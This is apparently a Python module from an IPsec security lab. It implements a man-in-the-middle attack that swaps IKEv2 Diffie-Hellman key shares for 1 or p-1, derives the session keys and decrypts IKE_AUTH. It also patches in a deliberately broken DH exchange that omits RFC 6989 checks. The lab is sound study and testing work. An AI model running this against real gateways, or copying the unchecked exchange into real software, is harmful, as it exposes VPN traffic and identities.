"""unchecked-dh: a peer that takes 1 (or p-1) as a Diffie-Hellman public value.

In a MODP group, 1 has order 1 and p-1 order 2: whatever a peer's secret exponent x,
1^x = 1 and (p-1)^x = ±1. A peer that accepts such a key share computes a g^ir the
attacker knows without any discrete log, and with it SKEYSEED and every SK_* key (RFC 7296
§2.14). RFC 6989 §2.1 therefore requires checking that 1 < y < p-1 (and §2.2 subgroup
membership where the group has small subgroups); ipseclab does it in
:meth:`ipseclab.crypto.dh.DhPrivate.exchange`, raising InvalidKeyShare, and the responder
answers INVALID_SYNTAX without creating state.

The weak configuration is a deliberately broken peer, built only here: :func:`unchecked`
swaps, for as long as it is active, the DH keys the IKE engine draws for ones whose
``exchange`` skips those checks. Its gateways are ``impl: ipseclab-unchecked-dh``: the
ipseclab gateway started as ``python -m ipseclab.attacks.unchecked_dh gateway ...``, which
enters :func:`unchecked` in its own process and logs a warning (the insecure switch lives
here, never in the gateway).

It runs for real on the ``on-path-attacker`` topology. gw1 initiates; mallory's relay
(:mod:`ipseclab.attacks.ike_relay`) replaces the KE data of both IKE_SA_INIT messages by 1
in flight: both broken peers derive g^ir = 1, mallory derives the same SK_* keys and opens
gw1's IKE_AUTH that follows (its identity, AUTH and proposals: enough for the offline PSK
search of weak-psk). AUTH still fails afterwards (it signs the unmodified first message,
§2.15), but the secrecy of IKE_AUTH is gone. With ipseclab's checks gw2 answers
INVALID_SYNTAX and keeps no IKE SA (``ctl list-ike-sas``, ``ctl stats``). The attack
targets only the lab's own hosts inside the topology's namespaces.
"""

from __future__ import annotations

import contextlib
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from ipseclab.attacks.common import AttackResult, check_config
from ipseclab.attacks.ike_common import (
    SaInit,
    auth_exchange,
    ike_lab,
    open_sk,
    register_module_launcher,
    relay_attempt,
    sa_keys,
)
from ipseclab.crypto.dh import DhPrivate, ModpGroup
from ipseclab.ike import negotiation
from ipseclab.ike.constants import ExchangeType
from ipseclab.ike.message import parse_message
from ipseclab.ike.payloads import IDi, KeyExchange, Notify

NAME = "unchecked-dh"
WEAK = "weak"  # modp2048, both peers without the RFC 6989 checks
RECOMMENDED = "recommended"  # modp2048, ipseclab's checks
BROKEN_IMPL = "ipseclab-unchecked-dh"


class UncheckedModpPrivate(DhPrivate):
    """A MODP key whose ``exchange`` is y^x mod p and nothing else: the broken peer."""

    __slots__ = ("_inner",)

    def __init__(self, inner: DhPrivate) -> None:
        super().__init__(inner.group)
        self._inner = inner

    def public_bytes(self) -> bytes:
        return self._inner.public_bytes()

    def exchange(self, peer: bytes) -> bytes:
        group: ModpGroup = self.group  # type: ignore[assignment]
        y = int.from_bytes(peer, "big")
        x = self._inner._x  # type: ignore[attr-defined]
        return pow(y, x, group.p).to_bytes(group.public_size, "big")


@contextlib.contextmanager
def unchecked() -> Iterator[None]:
    """While active, every MODP key the IKE engine draws skips RFC 6989 (lab only)."""
    original = negotiation.generate_dh

    def broken(group: Any, rng: Any) -> DhPrivate:
        key = original(group, rng)
        return UncheckedModpPrivate(key) if isinstance(group, ModpGroup) else key

    negotiation.generate_dh = broken  # type: ignore[assignment]
    try:
        yield
    finally:
        negotiation.generate_dh = original  # type: ignore[assignment]


def replace_key_share(value: int) -> Any:
    """A tamper function: the KE data of both IKE_SA_INIT messages becomes ``value``."""
    def tamper(data: bytes, sender: str) -> list:
        msg = parse_message(data)
        ke = msg.find(KeyExchange)
        if msg.exchange_type == ExchangeType.IKE_SA_INIT and ke is not None:
            ke.data = value.to_bytes(len(ke.data), "big")
            return [msg.to_bytes()]
        return [data]
    return tamper


def _outcome(lines: dict[str, list[str]]) -> bool:
    """gw1 has its answer (the peer refused: INVALID_SYNTAX; or an IKE SA), or both gateways
    have logged their AUTH failure."""
    gw1, gw2 = "\n".join(lines.get("gw1", [])), "\n".join(lines.get("gw2", []))
    return ("INVALID_SYNTAX" in gw1 or "established" in gw1
            or ("authentication failed:" in gw1 and "authentication failed:" in gw2))


def _notifies(data: list[bytes]) -> list[str]:
    """Error notifies in IKE_SA_INIT answers as they crossed mallory (RFC 7296 §3.10.1)."""
    out = []
    for raw in data:
        msg = parse_message(raw)
        if msg.exchange_type == ExchangeType.IKE_SA_INIT and msg.is_response:
            out += [getattr(n.notify_type, "name", str(n.notify_type)) for n in msg.payloads
                    if isinstance(n, Notify) and n.notify_type < 16384]
    return out


def run(lab: Any = None, config: str = WEAK, workdir: Path | None = None,
        share: int = 1) -> AttackResult:
    """mallory sets both key shares to ``share`` (1, or p-1 for a secret of ±1) in flight."""
    check_config(config)
    register_module_launcher(BROKEN_IMPL, "ipseclab.attacks.unchecked_dh")
    impl = BROKEN_IMPL if config == WEAK else "ipseclab"
    if lab is None:
        with ike_lab(NAME, config, workdir, impl=impl) as fresh:
            return _attack(fresh, config, share)
    return _attack(lab, config, share)


def _attack(lab: Any, config: str, share: int) -> AttackResult:
    attempt = relay_attempt(lab, f"unchecked_dh:replace_key_share:{share}", _outcome)
    messages = attempt.delivered()
    refused = _notifies(messages)
    failures = attempt.lines("failed:")
    auth_failed = [ln.split(":")[0] for ln in attempt.lines("authentication failed:")]
    counters = {f"{node} ctl": {"ike_in": attempt.stats[node].get("ike_in", 0),
                                "ike_out": attempt.stats[node].get("ike_out", 0),
                                "ike_sas": len(attempt.ike_sas[node])}
                for node in ("gw1", "gw2")}
    details: dict[str, Any] = {"failures": failures, "auth_failed": auth_failed,
                               "refused": refused, "relayed": len(attempt.datagrams),
                               "gw2_ike_sas": len(attempt.ike_sas["gw2"])}
    init = SaInit.from_messages(messages)
    if init is None:
        evidence = (f"mallory set gw1's key share to {share} in flight; gw2 refused it"
                    f" (RFC 6989 §2.1) with {', '.join(refused) or 'no answer'}:"
                    f" {'; '.join(failures) or 'nothing logged'}; gw2 keeps"
                    f" {len(attempt.ike_sas['gw2'])} IKE SAs (ctl list-ike-sas)")
        return AttackResult(NAME, config, False, evidence, details=details, counters=counters)
    group: ModpGroup = init.proposal.dh[0]  # type: ignore[assignment]
    candidates = {1} if share == 1 else {1, group.p - 1}  # (p-1)^x = ±1
    request, _ = auth_exchange(messages, init)
    for secret in sorted(candidates):
        keys = sa_keys(init, secret.to_bytes(group.public_size, "big"))
        try:
            _, inner = open_sk(request, init, keys) if request else (None, [])
        except Exception:  # wrong candidate: the AEAD tag does not verify
            continue
        if not inner:
            continue
        idi = next((p for p in inner if isinstance(p, IDi)), None)
        details.update({"g_ir": secret, "sk_ei": keys.SK_ei.hex(),
                        "identity": idi.data.decode() if idi else None,
                        "inner": [type(p).__name__ for p in inner]})
        # gw2 reaching its AUTH check means it opened the same SK payload: same keys
        details["gw2_opened_ike_auth"] = "gw2" in auth_failed
        evidence = (f"mallory set both key shares to {share} in flight; the gateways without"
                    f" RFC 6989 checks computed g^ir = {secret}, as did mallory: SK_ei"
                    f" {keys.SK_ei.hex()[:16]}... opens gw1's IKE_AUTH: "
                    f"{', '.join(details['inner'])} with identity {details['identity']!r}."
                    f" (AUTH then fails: {', '.join(auth_failed) or 'no one'} log"
                    " 'authentication failed', since AUTH signs the unmodified messages; the"
                    " IKE_AUTH contents are out anyway.)")
        return AttackResult(NAME, config, True, evidence, details=details, counters=counters)
    return AttackResult(NAME, config, False, "no candidate secret opened IKE_AUTH",
                        details=details, counters=counters)


def gateway_main(argv: list[str]) -> int:
    """``ipseclab gateway ...`` without the RFC 6989 checks: the insecure switch."""
    # stderr is the gateway's log; the gateway sets up logging itself
    print("WARNING: DH public values are not checked (RFC 6989): attack lab only",
          file=sys.stderr, flush=True)
    from ipseclab.cli import main

    with unchecked():
        return main(argv)


if __name__ == "__main__":
    sys.exit(gateway_main(sys.argv[1:]))
